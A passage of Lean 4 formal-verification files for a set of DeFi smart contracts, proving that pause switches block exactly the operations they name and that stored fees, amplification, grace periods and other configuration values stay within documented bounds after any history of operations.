  reach_filter_migrate base ops s

/-- a loan with a paused inner operation after migrations: still refused (plain message: the whole loan) -/
theorem inloan_inner_disabled_after_migrations (base : Path → Res Unit) (s : St) (hs : Reachable base s)
    (outer inner : Path) (lb : LoanBase) (sw : Switch) (hn : inner.names = some sw)
    (hoff : s.flags.get sw = false) (ms : List Op) (hm : ∀ op ∈ ms, op.isMigrate = true) :
    stepInLoan (reach base s ms) outer inner .propagate lb = ⟨.err, none⟩ ∧
    (stepInLoan (reach base s ms) outer inner .catch lb).inner ≠ some true := by
  have hw : ∀ op ∈ ms, op.ownerWrite = false := fun op h => isMigrate_not_ownerWrite op (hm op h)
  rw [reach_not_ownerWrite base ms s hw]
  exact ⟨(inloan_inner_disabled_propagate base s hs outer inner lb sw hn hoff).1,
    (inloan_inner_disabled_catch base s hs outer inner lb lb rfl sw hn hoff).1⟩

/-! ### non-vacuity and concrete behaviour -/

/-- the seeded shape C17-I: swaps paused on a 3pool, the pool is migrated 1.2.4 → 1.2.5, then a second time
    from an even older version, a refused migration (same version) in between — every swap path still errs -/
example :
    let base : Path → Res Unit := fun _ => .ok ()
    let s := reach base ⟨Flags.allOn, true, 0⟩
      [.setPartial true none none (some false), .migrate true ⟨1, 2, 4⟩ ⟨1, 2, 5⟩ (.ok ()),
       .migrate true ⟨1, 2, 5⟩ ⟨1, 2, 5⟩ (.ok ()), .migrate true ⟨0, 9, 12⟩ ⟨1, 2, 5⟩ (.ok ())]
    s.flags = ⟨true, true, false⟩ ∧
    [Path.trioSwapNative, .trioSwapCw20Hook, .trioSwapDirectCw20].all (fun p => stepPath base s p == .err) ∧
    stepPath base s .trioProvide = .ok () := by decide

/-- semver order on the versions the handlers compare -/
example : Ver.lt ⟨1, 2, 4⟩ ⟨1, 2, 5⟩ = true ∧ Ver.lt ⟨1, 2, 5⟩ ⟨1, 2, 5⟩ = false ∧ Ver.lt ⟨1, 3, 0⟩ ⟨1, 2, 5⟩ = false ∧
    Ver.lt ⟨0, 9, 12⟩ ⟨1, 2, 5⟩ = true ∧ Ver.lt ⟨1, 1, 9⟩ ⟨1, 2, 5⟩ = true ∧ Ver.lt ⟨2, 0, 0⟩ ⟨1, 3, 8⟩ = false := by decide


/-- a reachable state with withdrawals paused: every withdraw path errs, swap and deposit paths run -/
example :
    let base : Path → Res Unit := fun _ => .ok ()
    let s := reach base ⟨Flags.allOn, true, 0⟩ [.setFlags true ⟨true, false, true⟩]
    (Path.all.filter (fun p => stepPath base s p != .ok ())) =
      [.pairWithdrawHook, .pairWithdrawDirect, .pairSwapDirectCw20,
       .trioWithdrawHook, .trioWithdrawDirect, .trioSwapDirectCw20,
       .vaultWithdrawHook, .vaultWithdrawDirect, .vaultConfigStranger, .vaultCallbackExternal,
       .pairHookMalformed, .trioHookMalformed, .vaultHookMalformed] := by decide

example : Reachable (fun _ => .ok ()) ⟨⟨true, false, true⟩, true, 0⟩ :=
  ⟨⟨Flags.allOn, true, 0⟩, [.setFlags true ⟨true, false, true⟩], rfl, rfl⟩

/-- all 2^3 combinations × all 29 paths: the model's verdict is `err` exactly when the named switch is
    off or the entry point rejects the call (enumerated by the kernel) -/
example :
    ∀ a b c : Bool, ∀ p ∈ Path.all,
      (stepPath (fun _ => .ok ()) ⟨⟨a, b, c⟩, true, 0⟩ p == .err) =
        ((match p.names with | some sw => !(Flags.get ⟨a, b, c⟩ sw) | none => false) ||
          entryRejects true p) := by decide

/-- Observation outside the buildable feature set (token-factory LP, `lpCw20 = false`): the pools'
    direct `WithdrawLiquidity {}` entry reads no switch, so it runs with withdrawals paused. -/
example :
    stepPath (fun _ => .ok ()) ⟨⟨true, false, true⟩, false, 0⟩ .pairWithdrawDirect = .ok () := by decide

/-- inside a callback: all 2^3 combinations × both loan entries × the 8 vault paths as inner message ×
    both modes, every un-modelled outcome `ok` — the transaction commits iff the loan switch is on and
    (in `propagate` mode) the inner message is let through; the recorded inner result is a success
    exactly for the cw20 withdrawal with withdrawals on and for fee collection (enumerated by the kernel) -/
example :
    ∀ a b c : Bool, ∀ outer ∈ [Path.vaultFlashLoan, Path.vaultRouterLoan],
      ∀ inner ∈ Path.all.filter (fun p => p.family == .vault), ∀ m ∈ [Mode.propagate, Mode.catch],
      let r := stepInLoan ⟨⟨a, b, c⟩, true, 0⟩ outer inner m ⟨.ok (), .ok (), .ok ()⟩
      let innerOk := (inner == .vaultWithdrawHook && b) || inner == .vaultCollectFees
      (r.tx == .ok ()) = (c && (m == .catch || innerOk)) ∧
      r.inner = (if c && m == .catch then some innerOk else none) := by decide

/-- the seeded shape: deposits paused, loans enabled, a deposit sent from the callback — rejected -/
example :
    stepInLoan ⟨⟨false, true, true⟩, true, 0⟩ .vaultFlashLoan .vaultDeposit .propagate ⟨.ok (), .ok (), .ok ()⟩
      = ⟨.err, none⟩ := by decide

end WW.C17
