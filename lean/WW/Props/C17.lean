/-
  C17 — Pause switches stop exactly the operation they name.
  Property theorems only.  Model: `WW/Model/Toggles.lean` (switch state of a pool / vault, every entry
  path, the switch each handler reads — transcribed from the code).  The effect of an operation that is
  let through is a parameter `base : Path → Res Unit`; it is tied to the real contracts (together with
  the gate table) by the exhaustive `toggles` matrix engine.
-/
import WW.Proofs.Toggles
namespace WW.C17
open WW WW.Toggles

/-- States that exist in the default build: created by `instantiate` (cw20 LP) and then driven by any
    history of switch updates (by the owner or by anybody else) and calls. -/
def Reachable (base : Path → Res Unit) (s : St) : Prop :=
  ∃ s₀ ops, instantiate false = .ok s₀ ∧ s = reach base s₀ ops

theorem reachable_lpCw20 {base : Path → Res Unit} {s : St} (h : Reachable base s) : s.lpCw20 = true := by
  obtain ⟨s₀, ops, h0, rfl⟩ := h
  rw [reach_lpCw20]
  simp only [instantiate] at h0
  cases h0
  rfl

/-- **disabled ⇒ rejected.** When the switch an entry path names is off, the call is rejected, whatever
    the other switches are and whatever the operation would otherwise do — for every entry path
    (direct message, cw20 hook, router hop, frontend helper, vault router) of every pool and vault that
    can exist in the default build. -/
theorem disabled_rejected (base : Path → Res Unit) (s : St) (hs : Reachable base s)
    (p : Path) (sw : Switch) (hn : p.names = some sw) (hoff : s.flags.get sw = false) :
    stepPath base s p = .err := by
  have hlp := reachable_lpCw20 hs
  cases hc : p.consults with
  | some sw' =>
    have := consults_sub_names p sw' hc
    rw [hn] at this
    cases this
    simp [stepPath, gate_of_consults hc, hoff]
  | none =>
    rcases names_not_consulted p sw hn hc with rfl | rfl <;>
      simp [stepPath, gate, Path.consults, entryRejects, hlp]

/-- … and a rejected call moves nothing: the switch state after the failed operation is the state
    before it (balances and the rest of the storage are outside this model; the matrix engine compares
    full snapshots). -/
theorem disabled_unchanged (base : Path → Res Unit) (s : St) (hs : Reachable base s)
    (p : Path) (sw : Switch) (hn : p.names = some sw) (hoff : s.flags.get sw = false) :
    step base s (.call p) = .err ∧ reach base s [.call p] = s := by
  have h := disabled_rejected base s hs p sw hn hoff
  have : step base s (.call p) = .err := by simp [step, h]
  exact ⟨this, by simp [reach, this]⟩

/-- **frame.** The outcome of a call does not depend on the switches its operation does not name:
    two states that agree on the named switch (and on everything that is not a switch) give the same
    result.  For a path no switch names (fee collection) the outcome is independent of all three. -/
theorem others_unaffected (base : Path → Res Unit) (s : St) (f' : Flags) (p : Path)
    (hsame : ∀ sw, p.names = some sw → f'.get sw = s.flags.get sw) :
    stepPath base { s with flags := f' } p = stepPath base s p := by
  cases hc : p.consults with
  | some sw =>
    have hn := consults_sub_names p sw hc
    simp [stepPath, gate_of_consults hc, hsame sw hn]
  | none => simp [stepPath, gate_of_not_consults hc]

/-- the frame statement for a single flipped switch -/
theorem flip_other_switch (base : Path → Res Unit) (s : St) (p : Path) (sw : Switch) (v : Bool)
    (hother : p.names ≠ some sw) :
    stepPath base { s with flags := s.flags.set sw v } p = stepPath base s p := by
  apply others_unaffected
  intro sw' hn
  have : sw ≠ sw' := fun h => hother (h ▸ hn)
  exact get_set_other s.flags sw sw' v this

/-- an enabled operation does exactly what it does when nothing was ever paused (unless its entry
    point rejects it regardless of the switches) -/
theorem enabled_runs_underlying (base : Path → Res Unit) (s : St) (p : Path)
    (hon : ∀ sw, p.names = some sw → s.flags.get sw = true) (hentry : entryRejects s.lpCw20 p = false) :
    stepPath base s p = base p := by
  cases hc : p.consults with
  | some sw =>
    have hn := consults_sub_names p sw hc
    simp [stepPath, gate_of_consults hc, hon sw hn, hentry]
  | none => simp [stepPath, gate_of_not_consults hc, hentry]

/-- **re-enabling restores.** After any history of switch updates and calls, writing the original
    switch values back yields exactly the original state — hence every later call behaves as before. -/
theorem reenable_restores (base : Path → Res Unit) (s : St) (ops : List Op) :
    reach base s (ops ++ [.setFlags true s.flags]) = s := by
  have key : ∀ (ops : List Op) (t : St), t.lpCw20 = s.lpCw20 →
      reach base t (ops ++ [.setFlags true s.flags]) = s := by
    intro ops
    induction ops with
    | nil =>
      intro t ht
      cases s; cases t
      simp_all [reach, step]
    | cons op ops ih =>
      intro t ht
      simp only [List.cons_append, reach]
      split
      · next t' h => exact ih t' (by rw [step_lpCw20 base t t' op h, ht])
      · exact ih t ht
  exact key ops s rfl

/-- consequence: pause, then un-pause ⇒ every path gives the result it gave before the pause -/
theorem reenable_same_results (base : Path → Res Unit) (s : St) (f : Flags) (p : Path) :
    stepPath base (reach base s [.setFlags true f, .setFlags true s.flags]) p = stepPath base s p := by
  have := reenable_restores base s [.setFlags true f]
  simp only [List.cons_append, List.nil_append] at this
  rw [this]

/-- **new pools and vaults start with everything enabled**: `instantiate` sets all three switches,
    so every path passes its gate. -/
theorem initial_all_enabled (tf : Bool) (s : St) (h : instantiate tf = .ok s) :
    s.flags = Flags.allOn ∧ ∀ p, gate p s.flags = true := by
  simp only [instantiate] at h
  split at h
  · cases h
  · cases h
    refine ⟨rfl, ?_⟩
    intro p
    cases p <;> rfl

/-- only the owner's update writes the switches -/
theorem stranger_cannot_switch (base : Path → Res Unit) (s : St) (f : Flags) :
    step base s (.setFlags false f) = .err := rfl

/-! ### non-vacuity and concrete behaviour -/

/-- a reachable state with withdrawals paused: every withdraw path errs, swap and deposit paths run -/
example :
    let base : Path → Res Unit := fun _ => .ok ()
    let s := reach base ⟨Flags.allOn, true⟩ [.setFlags true ⟨true, false, true⟩]
    (Path.all.filter (fun p => stepPath base s p != .ok ())) =
      [.pairWithdrawHook, .pairWithdrawDirect, .pairSwapDirectCw20,
       .trioWithdrawHook, .trioWithdrawDirect, .trioSwapDirectCw20,
       .vaultWithdrawHook, .vaultWithdrawDirect] := by decide

example : Reachable (fun _ => .ok ()) ⟨⟨true, false, true⟩, true⟩ :=
  ⟨⟨Flags.allOn, true⟩, [.setFlags true ⟨true, false, true⟩], rfl, rfl⟩

/-- all 2^3 combinations × all 24 paths: the model's verdict is `err` exactly when the named switch is
    off or the entry point rejects the call (enumerated by the kernel) -/
example :
    ∀ a b c : Bool, ∀ p ∈ Path.all,
      (stepPath (fun _ => .ok ()) ⟨⟨a, b, c⟩, true⟩ p == .err) =
        ((match p.names with | some sw => !(Flags.get ⟨a, b, c⟩ sw) | none => false) ||
          entryRejects true p) := by decide

/-- Observation outside the buildable feature set (token-factory LP, `lpCw20 = false`): the pools'
    direct `WithdrawLiquidity {}` entry reads no switch, so it runs with withdrawals paused. -/
example :
    stepPath (fun _ => .ok ()) ⟨⟨true, false, true⟩, false⟩ .pairWithdrawDirect = .ok () := by decide

end WW.C17
