/-
  C18 — Stored configuration is always within its documented bounds.
  Property theorems only.  Model: `WW/Model/Config.lean` (the configuration part of every contract and
  every write path: instantiate, direct update by the owner, factory-mediated update of pair / 3pool /
  vault, factory create, distributor / lair / collector updates), validators transcribed.  Tied to the
  real contracts by the `config` correspondence engine.
-/
import WW.Proofs.Config
namespace WW.C18
open WW WW.Config

/-! ### the constants are the documented numbers (a changed constant in the Rust breaks these) -/

theorem pinned_pair_min_amp : WW.Gen.PAIR_MIN_AMP = 1 := by decide
theorem pinned_pair_max_amp : WW.Gen.PAIR_MAX_AMP = 1000000 := by decide
theorem pinned_trio_min_amp : WW.Gen.TRIO_MIN_AMP = 1 := by decide
theorem pinned_trio_max_amp : WW.Gen.TRIO_MAX_AMP = 1000000 := by decide
theorem pinned_max_grace_period : WW.Gen.DISTRIBUTOR_MAX_GRACE_PERIOD = 30 := by decide
theorem pinned_day_in_nanoseconds : WW.Gen.DISTRIBUTOR_DAY_IN_NANOSECONDS = 86400000000000 := by decide
theorem pinned_bonding_assets_limit : WW.Gen.LAIR_BONDING_ASSETS_LIMIT = 2 := by decide
theorem pinned_one_is_e18 : WW.E18 = 1000000000000000000 := by decide

theorem pinned : Pinned :=
  ⟨pinned_pair_min_amp, pinned_pair_max_amp, pinned_trio_min_amp, pinned_trio_max_amp,
   pinned_max_grace_period, pinned_day_in_nanoseconds, pinned_bonding_assets_limit⟩

/-! ### the property -/

/-- **`ConfigOk` after every history.** Starting from an empty deployment, after ANY sequence of
    instantiations, direct updates, factory-mediated updates and factory creations — with arbitrary
    arguments, accepted or rejected, in any order, at any block heights — every stored configuration is
    within its documented bounds: pool and vault fee shares each `< 1` and sum `< 1`; no burn fee on a
    vault over a token-factory asset; pair and 3pool amplification (both ramp end points, hence every
    value in between) in `[1, 10^6]`; grace period in `[1, 30]`; epoch duration `≥ 86400·10^9` ns;
    growth rate `≤ 1`; at most two bonding assets; take rate `< 1`. -/
theorem config_ok_reach (height : Nat) (ops : List Op) : ConfigOk (reach (Cfg.empty height) ops) :=
  (reach_inv pinned ops (Inv.empty height)).configOk

/-- one more step from any state reached that way (the inductive step, stated for a single op) -/
theorem config_ok_step (height : Nat) (ops : List Op) (op : Op) (c' : Cfg)
    (h : step (reach (Cfg.empty height) ops) op = .ok c') : ConfigOk c' :=
  (step_inv pinned (reach_inv pinned ops (Inv.empty height)) h).configOk

/-- **a rejected operation changes nothing**: when an instantiate / update is refused (error or
    panic), every stored configuration — and the history's continuation — is as if it had not been sent -/
theorem rejected_unchanged (c : Cfg) (op : Op) (ops : List Op) (h : ∀ c', step c op ≠ .ok c') :
    reach c (op :: ops) = reach c ops := by
  cases hs : step c op with
  | ok c' => exact absurd hs (h c')
  | err => simp [reach, hs]
  | panic => simp [reach, hs]

/-- **the grace period never decreases** (single update) -/
theorem grace_never_decreases_step (c c' : Cfg) (g d : Option Nat) (x y : DistCfg)
    (hok : ConfigOk c) (h : step c (.distUpd g d) = .ok c') (hx : c.dist = some x) (hy : c'.dist = some y) :
    x.grace ≤ y.grace := by
  have hxok : x.ok = true := by
    have := hok
    simp only [ConfigOk, configOk, Bool.and_eq_true, hx, optOk] at this
    exact this.1.1.2
  simp only [step, hx] at h
  split at h
  · next z hz =>
    cases h
    cases hy
    exact (distUpdate_ok pinned.grace pinned.day hxok hz).2
  · cases h
  · cases h

/-- operations that deploy a new distributor (a different contract with its own grace period) -/
def deploysDistributor : Op → Bool
  | .distInst _ _ => true
  | _ => false

/-- **the grace period never decreases** over any history in which the distributor is not replaced by a
    newly instantiated one: whatever else happens in between, the stored grace period only grows -/
theorem grace_never_decreases (ops : List Op) (c : Cfg) (x : DistCfg)
    (hc : Inv c) (hx : c.dist = some x) (hno : ∀ op ∈ ops, deploysDistributor op = false) :
    ∃ y, (reach c ops).dist = some y ∧ x.grace ≤ y.grace := by
  induction ops generalizing c x with
  | nil => exact ⟨x, hx, Nat.le_refl _⟩
  | cons op ops ih =>
    have hno' : ∀ o ∈ ops, deploysDistributor o = false := fun o ho => hno o (List.mem_cons_of_mem _ ho)
    simp only [reach]
    split
    · next c' hstep =>
      have hc' := step_inv pinned hc hstep
      have key : ∃ y, c'.dist = some y ∧ x.grace ≤ y.grace := by
        cases op with
        | distInst g d => exact absurd (hno _ (List.mem_cons_self)) (by simp [deploysDistributor])
        | distUpd g d =>
          simp only [step, hx] at hstep
          split at hstep
          · next z hz =>
            cases hstep
            exact ⟨z, rfl, (distUpdate_ok pinned.grace pinned.day (hc.dist x hx) hz).2⟩
          · cases hstep
          · cases hstep
        | pairInst _ _ _ _ =>
          simp only [step] at hstep
          split at hstep <;> cases hstep
          exact ⟨x, hx, Nat.le_refl _⟩
        | pairUpd _ _ _ =>
          simp only [step] at hstep
          split at hstep <;> cases hstep
          exact ⟨x, hx, Nat.le_refl _⟩
        | trioInst _ _ _ _ =>
          simp only [step] at hstep
          split at hstep <;> cases hstep
          exact ⟨x, hx, Nat.le_refl _⟩
        | trioUpd _ _ _ _ =>
          simp only [step] at hstep
          split at hstep <;> cases hstep
          exact ⟨x, hx, Nat.le_refl _⟩
        | vaultInst _ _ _ _ _ =>
          simp only [step] at hstep
          split at hstep <;> cases hstep
          exact ⟨x, hx, Nat.le_refl _⟩
        | vaultUpd _ _ _ =>
          simp only [step] at hstep
          split at hstep <;> cases hstep
          exact ⟨x, hx, Nat.le_refl _⟩
        | lairInst _ _ _ _ =>
          simp only [step] at hstep
          split at hstep <;> cases hstep
          exact ⟨x, hx, Nat.le_refl _⟩
        | lairUpd _ =>
          simp only [step] at hstep
          split at hstep
          · cases hstep
          · split at hstep <;> cases hstep
            exact ⟨x, hx, Nat.le_refl _⟩
        | collInst =>
          simp only [step] at hstep
          cases hstep
          exact ⟨x, hx, Nat.le_refl _⟩
        | collUpd _ =>
          simp only [step] at hstep
          split at hstep
          · cases hstep
          · split at hstep <;> cases hstep
            exact ⟨x, hx, Nat.le_refl _⟩
        | advance _ =>
          simp only [step] at hstep
          cases hstep
          exact ⟨x, hx, Nat.le_refl _⟩
        | migrate =>
          simp only [step] at hstep
          cases hstep
          exact ⟨x, hx, Nat.le_refl _⟩
      obtain ⟨y, hy, hxy⟩ := key
      obtain ⟨z, hz, hyz⟩ := ih c' y hc' hy hno'
      exact ⟨z, hz, Nat.le_trans hxy hyz⟩
    · exact ih c x hc hx hno'

/-- **no burn fee on a vault over a token-factory asset** — stated for what the code itself classes as a
    factory token (`has_factory_token`: every `factory/{creator}/{subdenom}` denom and some more shapes),
    after every history, whatever LP-token code the vaults were given.  (Before fix 074ebd5
    `update_config` tested only the LP asset and this was false: see `known_findings.json`.) -/
theorem no_burn_fee_on_factory_asset (height : Nat) (ops : List Op) :
    ∀ v ∈ (reach (Cfg.empty height) ops).vaults, v.asset.codeSaysFactory = true → v.fees.c = 0 :=
  fun v hv => ((reach_inv pinned ops (Inv.empty height)).vaults v hv).2

/-- … in particular over every token-factory asset in the documented sense -/
theorem no_burn_fee_on_token_factory_asset (height : Nat) (ops : List Op) :
    ∀ v ∈ (reach (Cfg.empty height) ops).vaults, v.asset.isTokenFactory = true → v.fees.c = 0 :=
  fun v hv h => no_burn_fee_on_factory_asset height ops v hv (AssetClass.tokenFactory_codeSays h)

/-- `update_config` refuses a burn fee on such a vault, on both paths, and keeps the asset -/
theorem vault_update_refuses_burn_on_factory_asset (via : Bool) (v : VaultCfg) (f : Fees3)
    (ha : v.asset.codeSaysFactory = true) (hc : 0 < f.c) : vaultUpdate via v (some f) = .err := by
  simp only [vaultUpdate]
  split
  · rfl
  · split
    · have : decide (f.c > 0) = true := by simpa using hc
      simp [ha, this]
    · rfl
    · exact absurd ‹_› (by
        simp only [applyFees]
        split <;> simp_all [fees3_not_panic])

/-- with the stock LP-token code (the default deployment) no history creates a vault over a
    token-factory (`factory/…`) asset at all: the derived cw20 symbol `uLP-factory/` is refused -/
theorem no_vault_over_token_factory_asset (height : Nat) (ops : List Op) (hs : ops.all Op.stockLp = true) :
    ∀ v ∈ (reach (Cfg.empty height) ops).vaults, v.asset.isTokenFactory = false := by
  suffices H : ∀ (ops : List Op) (c : Cfg), ops.all Op.stockLp = true →
      (∀ v ∈ c.vaults, v.asset.isTokenFactory = false) →
      ∀ v ∈ (reach c ops).vaults, v.asset.isTokenFactory = false from
    H ops _ hs (by intro v hv; cases hv)
  intro ops
  induction ops with
  | nil => intro c _ hc; exact hc
  | cons op ops ih =>
    intro c hs hc
    simp only [List.all_cons, Bool.and_eq_true] at hs
    simp only [reach]
    split
    · next c' h => exact ih c' hs.2 (step_no_token_factory_vault hs.1 hc h)
    · exact ih c hs.2 hc

/-- a migration (of any contract, from any stored version) rewrites no configuration -/
theorem migrate_keeps_config (c : Cfg) : step c .migrate = .ok c := rfl

/-! ### what each validator accepts, exactly -/

/-- `Fee::is_valid`: accepted iff the share is strictly below 100 % -/
theorem fee_valid_iff (share : Nat) : feeIsValid share = .ok () ↔ share < 1000000000000000000 := by
  simp only [feeIsValid, ← pinned_one_is_e18]
  constructor
  · intro h; split at h
    · cases h
    · omega
  · intro h; rw [if_neg (by omega)]

/-- `PoolFee::is_valid` (pair and 3pool): accepted iff each share `< 1` and the sum `< 1` -/
theorem pool_fee_valid_iff (f : Fees3) :
    fees3IsValid f = .ok () ↔
      f.a < 1000000000000000000 ∧ f.b < 1000000000000000000 ∧ f.c < 1000000000000000000 ∧
        f.a + f.b + f.c < 1000000000000000000 := by
  rw [fees3_ok_iff]
  simp only [Fees3.ok, Bool.and_eq_true, decide_eq_true_eq]
  constructor
  · rintro ⟨⟨⟨h1, h2⟩, h3⟩, h4⟩; exact ⟨h1, h2, h3, h4⟩
  · rintro ⟨h1, h2, h3, h4⟩; exact ⟨⟨⟨h1, h2⟩, h3⟩, h4⟩

/-- `VaultFee::is_valid` is the same predicate on (protocol, flash loan, burn) -/
theorem vault_fee_valid_iff (f : Fees3) :
    fees3IsValid f = .ok () ↔
      f.a < 1000000000000000000 ∧ f.b < 1000000000000000000 ∧ f.c < 1000000000000000000 ∧
        f.a + f.b + f.c < 1000000000000000000 := pool_fee_valid_iff f

/-- the fee validators return `Ok` or `Err`, never panic (no overflow is reachable in the sum) -/
theorem fee_validators_never_panic (f : Fees3) : fees3IsValid f ≠ .panic := fees3_not_panic f

/-- pair `instantiate` accepts exactly: valid fees, amp in `[1, 10^6]` when stableswap, cw20 LP -/
theorem pair_instantiate_ok_iff (via : Bool) (f : Fees3) (amp : Option Nat) (tf : Bool) :
    (∃ p, pairInstantiate via f amp tf = .ok p) ↔
      f.ok = true ∧ (∀ a, amp = some a → 1 ≤ a ∧ a ≤ 1000000) ∧ tf = false := by
  simp only [pairInstantiate]
  constructor
  · rintro ⟨p, h⟩
    split at h
    · next hv =>
      split at h
      · cases h
      · next hamp =>
        split at h
        · cases h
        · next htf =>
          refine ⟨(fees3_ok_iff f).1 hv, ?_, by simpa using htf⟩
          intro a ha
          subst ha
          simp only [Bool.not_eq_false, pairTypeOk, pairAmpOk, pinned_pair_min_amp, pinned_pair_max_amp,
            Bool.and_eq_true, decide_eq_true_eq] at hamp
          exact hamp
    · cases h
    · cases h
  · rintro ⟨hf, hamp, htf⟩
    rw [(fees3_ok_iff f).2 hf]
    have : pairTypeOk amp = true := by
      cases amp with
      | none => rfl
      | some a =>
        have := hamp a rfl
        simp [pairTypeOk, pairAmpOk, pinned_pair_min_amp, pinned_pair_max_amp, this]
    simp [this, htf]

/-- `validate_grace_period`: accepted iff `1 ≤ g ≤ 30` -/
theorem grace_ok_iff (g : Nat) : graceValid g = true ↔ 1 ≤ g ∧ g ≤ 30 :=
  graceValid_iff g pinned_max_grace_period

/-- `validate_epoch_config`: accepted iff the duration is at least one day (in nanoseconds) -/
theorem duration_ok_iff (d : Nat) : durationValid d = true ↔ 86400000000000 ≤ d :=
  durationValid_iff d pinned_day_in_nanoseconds

/-- distributor `instantiate` accepts exactly grace in `[1,30]` and duration ≥ 1 day -/
theorem dist_instantiate_ok_iff (g d : Nat) :
    (∃ x, distInstantiate g d = .ok x) ↔ (1 ≤ g ∧ g ≤ 30) ∧ 86400000000000 ≤ d := by
  rw [← grace_ok_iff, ← duration_ok_iff]
  simp only [distInstantiate]
  constructor
  · rintro ⟨x, h⟩
    split at h
    · cases h
    · next hg =>
      split at h
      · cases h
      · next hd => simp only [Bool.not_eq_false] at hg hd; exact ⟨hg, hd⟩
  · rintro ⟨hg, hd⟩
    simp [hg, hd]

/-- distributor `update_config { grace_period: Some g }` is accepted iff `g ∈ [1,30]` and `g` is not
    below the stored grace period -/
theorem grace_update_ok_iff (x : DistCfg) (g : Nat) :
    (∃ y, distUpdate x (some g) none = .ok y) ↔ (1 ≤ g ∧ g ≤ 30) ∧ x.grace ≤ g := by
  rw [← grace_ok_iff]
  simp only [distUpdate]
  constructor
  · rintro ⟨y, h⟩
    split at h
    · cases h
    · next hg =>
      split at h
      · cases h
      · next hlt => simp only [Bool.not_eq_false] at hg; exact ⟨hg, by omega⟩
  · rintro ⟨hg, hle⟩
    have h2 : ¬ g < x.grace := by omega
    simp [hg, h2]

/-- `validate_growth_rate`: accepted iff the rate is at most 1 -/
theorem growth_ok_iff (r : Nat) : growthValid r = true ↔ r ≤ 1000000000000000000 := growthValid_iff r

/-- lair `instantiate` accepts exactly: at most two bonding assets, all native, growth rate `≤ 1` — and
    at least one bonding asset where the chain refuses empty attribute values (`strict`, the mock chain;
    at entry-point level the empty list is accepted, with the growth rate checked all the same) -/
theorem lair_instantiate_ok_iff (r n : Nat) (k strict : Bool) :
    (∃ x, lairInstantiate r n k strict = .ok x) ↔
      (strict = true → 1 ≤ n) ∧ n ≤ 2 ∧ r ≤ 1000000000000000000 ∧ k = false := by
  rw [← growth_ok_iff]
  simp only [lairInstantiate, pinned_bonding_assets_limit]
  constructor
  · rintro ⟨x, h⟩
    split at h
    · cases h
    · split at h
      · cases h
      · next hr =>
        split at h
        · cases h
        · next hk =>
          split at h
          · cases h
          · next hn =>
            simp only [Bool.not_eq_false] at hr
            refine ⟨?_, by omega, hr, by simpa using hk⟩
            intro hs
            subst hs
            simp only [Bool.and_true, decide_eq_true_eq] at hn
            omega
  · rintro ⟨h1, h2, hr, hk⟩
    have : ¬ n > 2 := by omega
    subst hk
    cases strict
    · simp [*]
    · have : ¬ n = 0 := by have := h1 rfl; omega
      simp [*]

/-- the stored growth rate is at most 1 whatever the bonding-asset list (empty included) -/
theorem lair_growth_bounded (r n : Nat) (k strict : Bool) (x : LairCfg)
    (h : lairInstantiate r n k strict = .ok x) : x.growth ≤ 1000000000000000000 := by
  have := lairInstantiate_ok pinned_bonding_assets_limit h
  simp only [LairCfg.ok, Bool.and_eq_true, decide_eq_true_eq] at this
  exact this.1

/-- collector `update_config { take_rate: Some t }` is accepted iff `t < 1` -/
theorem take_rate_ok_iff (c : CollCfg) (t : Nat) :
    (∃ y, collUpdate c (some t) = .ok y) ↔ t < 1000000000000000000 := by
  simp only [collUpdate, pinned_one_is_e18]
  constructor
  · rintro ⟨y, h⟩
    split at h
    · assumption
    · cases h
  · intro h
    simp [h]

/-- 3pool: a ramp is only accepted towards a target in `[1, 10^6]`, and the amplification in force at
    every block lies between the two stored end points -/
theorem trio_amp_between (t : TrioCfg) (h cur : Nat) (hc : currentAmp t h = some cur) :
    (t.initAmp ≤ cur ∧ cur ≤ t.futAmp) ∨ (t.futAmp ≤ cur ∧ cur ≤ t.initAmp) := currentAmp_between hc

/-! ### non-vacuity: concrete histories and the exact behaviour at every bound -/

/-- a history through every write path that ends in a non-trivial configuration (a stableswap pair via
    the factory with updated fees, a 3pool mid-ramp, a vault whose fees were replaced through the vault
    factory, distributor with raised grace period, lair, collector with a take rate) -/
example :
    let ops : List Op :=
      [.pairInst true ⟨1000000000000000, 2000000000000000, 0⟩ (some 1000000) false,
       .pairUpd true 0 (some ⟨333333333333333333, 333333333333333333, 333333333333333333⟩),
       .pairUpd false 0 (some ⟨0, 0, 0⟩),                      -- wrong path: refused
       .trioInst false ⟨0, 0, 0⟩ 100 false,
       .trioUpd false 0 none (some (1000, 30000)),
       .advance 5000,
       .trioUpd false 0 none (some (400, 50000)),
       .vaultInst true ⟨1, 2, 3⟩ .plain false,
       .vaultUpd true 0 (some ⟨0, 999999999999999999, 0⟩),
       .distInst 1 86400000000000, .distUpd (some 30) none, .distUpd (some 29) none,
       .lairInst 1000000000000000000 2 false, .collInst, .collUpd (some 999999999999999999)]
    reach (Cfg.empty 12345) ops =
      { pairs := [⟨⟨333333333333333333, 333333333333333333, 333333333333333333⟩, some 1000000, true⟩],
        trios := [⟨⟨0, 0, 0⟩, 354, 400, 17345, 50000, false⟩],
        vaults := [⟨⟨0, 999999999999999999, 0⟩, .plain, true⟩],
        dist := some ⟨30, 86400000000000⟩, lair := some ⟨1000000000000000000, 2⟩,
        coll := some ⟨999999999999999999⟩, height := 17345 } := by decide

/-- on / just inside / just outside each bound, at 18-decimal granularity -/
example : fees3IsValid ⟨333333333333333333, 333333333333333333, 333333333333333333⟩ = .ok () := by decide
example : fees3IsValid ⟨333333333333333334, 333333333333333333, 333333333333333333⟩ = .err := by decide
example : fees3IsValid ⟨999999999999999999, 0, 0⟩ = .ok () := by decide
example : fees3IsValid ⟨1000000000000000000, 0, 0⟩ = .err := by decide
example : (pairInstantiate false ⟨0, 0, 0⟩ (some 1000000) false).isOk = true := by decide
example : pairInstantiate false ⟨0, 0, 0⟩ (some 1000001) false = .err := by decide
example : pairInstantiate false ⟨0, 0, 0⟩ (some 0) false = .err := by decide
example : (distInstantiate 30 86400000000000).isOk = true := by decide
example : distInstantiate 31 86400000000000 = .err := by decide
example : distInstantiate 30 86399999999999 = .err := by decide
example : (lairInstantiate 1000000000000000000 2 false).isOk = true := by decide
example : lairInstantiate 1000000000000000001 2 false = .err := by decide
example : lairInstantiate 0 3 false = .err := by decide
example : collUpdate ⟨0⟩ (some 1000000000000000000) = .err := by decide

/-- The vault's burn-fee rule uses `has_factory_token`, which also answers "yes" for the denom shape
    `ibc/<63 alnum>/x`; `instantiate` and (since fix 074ebd5) `update_config` refuse a burn fee there
    alike. -/
example :
    vaultInstantiate false ⟨0, 0, 1⟩ .ibc2 false = .err ∧
